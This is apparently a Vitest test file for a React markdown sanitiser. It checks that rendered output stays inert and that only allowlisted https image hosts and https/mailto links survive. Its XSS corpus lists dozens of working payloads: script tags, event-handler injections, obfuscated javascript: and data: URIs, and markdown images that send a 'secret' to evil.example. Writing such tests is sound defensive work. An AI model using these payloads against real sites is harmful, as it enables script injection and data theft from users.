import { createElement, Fragment } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { decodeEntities, renderMarkdown, safeImageSrc, safeLinkHref, type MarkdownOptions } from '../src/app/markdown';

const NO_IMAGES: MarkdownOptions = { allowImages: false, imageHosts: [] };
const CDN_IMAGES: MarkdownOptions = { allowImages: true, imageHosts: ['cdn.shop.example', '*.images.example'] };

function html(md: string, opts = NO_IMAGES): string {
  return renderToStaticMarkup(createElement(Fragment, null, ...renderMarkdown(md, opts)));
}

/** The real tags in rendered markup (escaped text such as "&lt;img …" is not a tag). */
function tags(out: string): Array<{ name: string; attrs: string }> {
  return [...out.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)([^>]*)>/g)].map((m) => ({ name: m[1]!.toLowerCase(), attrs: m[2] ?? '' }));
}

const SAFE_TAGS = new Set(['p', 'strong', 'em', 'del', 'code', 'pre', 'br', 'a', 'img', 'ul', 'ol', 'li', 'blockquote', 'hr', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);

/** No element or attribute that could run script or fetch something. */
function assertInert(out: string): void {
  for (const { name, attrs } of tags(out)) {
    expect(SAFE_TAGS.has(name), `unexpected <${name}> in ${out}`).toBe(true);
    expect(name, `image rendered in ${out}`).not.toBe('img');
    // Only these attributes may appear, each with a quoted value.
    const names = [...attrs.matchAll(/\s([a-zA-Z-:]+)=/g)].map((m) => m[1]!.toLowerCase());
    for (const attr of names) expect(['href', 'target', 'rel', 'class', 'start']).toContain(attr);
    const href = /\shref="([^"]*)"/.exec(attrs)?.[1];
    if (href !== undefined) expect(href).toMatch(/^(https:\/\/|mailto:)/);
  }
}

const XSS_CORPUS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'Hello <img src=x onerror=alert(1)> there',
  '<img src="https://evil.example/?q=secret">',
  '<svg onload=alert(1)><circle r=5 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<div onclick="alert(1)">x</div>',
  '<body onload=alert(1)>',
  '<style>body{background:url(https://evil.example/)}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1)  )',
  '[click](jav&#x61;script:alert(1))',
  '[click](jav&#97;script:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](vbscript:msgbox(1))',
  '[click](VBScript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](DATA:text/html,<script>alert(1)</script>)',
  '[click](file:///etc/passwd)',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/?q=secret)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '[![x](https://evil.example/t.png)](https://evil.example/)',
  '**bold <img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '> <img src=x onerror=alert(1)>',
  '- item <svg/onload=alert(1)>',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '[x](https://ok.example/" onmouseover="alert(1))',
];

describe('markdown sanitising (XSS corpus)', () => {
  it.each(XSS_CORPUS)('renders inert: %s', (md) => {
    assertInert(html(md));
  });

  it('shows raw HTML as text instead of dropping it silently', () => {
    expect(html('<b>bold?</b> <script>alert(1)</script>')).toContain('&lt;b&gt;bold?&lt;/b&gt;');
    expect(html('<script>alert(1)</script>')).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('does not turn javascript: links into anchors but keeps their label', () => {
    const out = html('[click me](javascript:alert(1))');
    expect(out).not.toContain('<a');
    expect(out).toContain('click me');
  });

  it('does not load images when the site does not allow them (exfiltration)', () => {
    const out = html('Here: ![the secret](https://evil.example/?q=secret)');
    expect(out).not.toContain('<img');
    expect(out).not.toContain('evil.example');
    expect(out).toContain('the secret');
  });

  it('loads images only from the allowed hosts, over https, without a referrer', () => {
    expect(html('![a](https://cdn.shop.example/p.png)', CDN_IMAGES)).toMatch(
      /<img src="https:\/\/cdn\.shop\.example\/p\.png" alt="a" loading="lazy" referrerPolicy="no-referrer"|<img[^>]*referrerpolicy="no-referrer"/i,
    );
    expect(html('![a](https://x.images.example/p.png)', CDN_IMAGES)).toContain('<img');
    expect(html('![a](https://images.example/p.png)', CDN_IMAGES)).not.toContain('<img');
    expect(html('![a](https://evil.example/?q=secret)', CDN_IMAGES)).not.toContain('<img');
    expect(html('![a](http://cdn.shop.example/p.png)', CDN_IMAGES)).not.toContain('<img');
    expect(html('![a](https://cdn.shop.example.evil.example/p.png)', CDN_IMAGES)).not.toContain('<img');
  });

  it('renders https and mailto links in a new tab without opener or referrer', () => {
    const out = html('See [our shop](https://shop.example/a?b=1&amp;c=2) or [mail us](mailto:help@shop.example).');
    expect(out).toContain('<a href="https://shop.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">our shop</a>');
    expect(out).toContain('<a href="mailto:help@shop.example" target="_blank" rel="noopener noreferrer nofollow">mail us</a>');
  });

  it('drops http:, relative and protocol-relative links', () => {
    for (const md of ['[a](http://shop.example)', '[a](/cart)', '[a](//evil.example)', '[a](#top)']) {
      expect(html(md)).not.toContain('<a');
    }
  });

  it('renders ordinary markdown', () => {
    const out = html('# Title\n\nSome **bold**, *em*, ~~del~~ and `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n```\nx < y\n```');
    expect(out).toContain('<strong>bold</strong>');
    expect(out).toContain('<em>em</em>');
    expect(out).toContain('<del>del</del>');
    expect(out).toContain('<code>code</code>');
    expect(out).toContain('<ul><li>one</li><li>two</li></ul>');
    expect(out).toContain('<ol><li>first</li><li>second</li></ol>');
    expect(out).toContain('<pre><code>x &lt; y</code></pre>');
    expect(out).toContain('<p class="md-heading"><strong>Title</strong></p>');
  });

  it('decodes entities in text the way a browser would', () => {
    expect(html('Fish &amp; chips &copy; &#x41;&#66;')).toContain('Fish &amp; chips © AB');
    expect(decodeEntities('&unknown; &#0; &#xD800;')).toBe('&unknown; \ufffd \ufffd');
  });
});

describe('safeLinkHref / safeImageSrc', () => {
  it.each([
    ['https://shop.example/x', 'https://shop.example/x'],
    ['HTTPS://Shop.Example/x', 'https://shop.example/x'],
    ['mailto:a@b.example', 'mailto:a@b.example'],
    ['javascript:alert(1)', null],
    ['jav&#x61;script:alert(1)', null],
    ['java\nscript:alert(1)', null],
    ['\u0000javascript:alert(1)', null],
    ['data:text/html,hi', null],
    ['vbscript:x', null],
    ['http://shop.example', null],
    ['/relative', null],
    ['https://', null],
  ])('%s → %s', (raw, want) => {
    expect(safeLinkHref(raw)).toBe(want);
  });

  it('never allows images when they are switched off', () => {
    expect(safeImageSrc('https://cdn.shop.example/a.png', { allowImages: false, imageHosts: ['cdn.shop.example'] })).toBeNull();
  });
});
